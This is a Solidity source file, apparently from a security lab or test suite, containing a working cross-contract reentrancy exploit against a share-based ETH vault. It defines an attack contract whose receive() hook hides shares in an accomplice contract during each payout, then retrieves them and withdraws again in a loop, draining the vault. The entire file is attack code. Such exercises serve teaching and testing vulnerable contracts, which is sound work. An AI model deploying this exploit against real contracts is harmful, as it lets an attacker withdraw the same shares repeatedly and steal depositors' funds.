// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {ShareVaultBase, VaultShares} from "../vulnerable/ShareVault.sol";
import {Exploit} from "./Exploit.sol";

/// @notice Keeps shares out of sight until they are asked for again.
contract ShareAccomplice {
    VaultShares private immutable _shares;
    address private immutable _leader = msg.sender;

    constructor(VaultShares shares) {
        _shares = shares;
    }

    function giveBack() external {
        _shares.transfer(_leader, _shares.balanceOf(address(this)));
    }
}

/// @notice Cross-contract reentrancy: when the vault pays, moves the shares in their own contract, which is not locked.
contract CrossContractAttack is Exploit {
    ShareVaultBase private immutable _vault;
    VaultShares private immutable _shares;
    ShareAccomplice private immutable _accomplice;

    constructor(ShareVaultBase vault) {
        _vault = vault;
        _shares = vault.shares();
        _accomplice = new ShareAccomplice(_shares);
    }

    receive() external payable {
        uint256 still = _shares.balanceOf(address(this));
        if (still > 0) _shares.transfer(address(_accomplice), still);
    }

    /// @param rounds how many times the same shares are withdrawn, besides the first.
    function run(uint256 rounds) external payable onlyOperator {
        _vault.deposit{value: msg.value}();
        _vault.withdraw();
        for (uint256 i; i < rounds; ++i) {
            _accomplice.giveBack();
            _vault.withdraw();
        }
    }
}
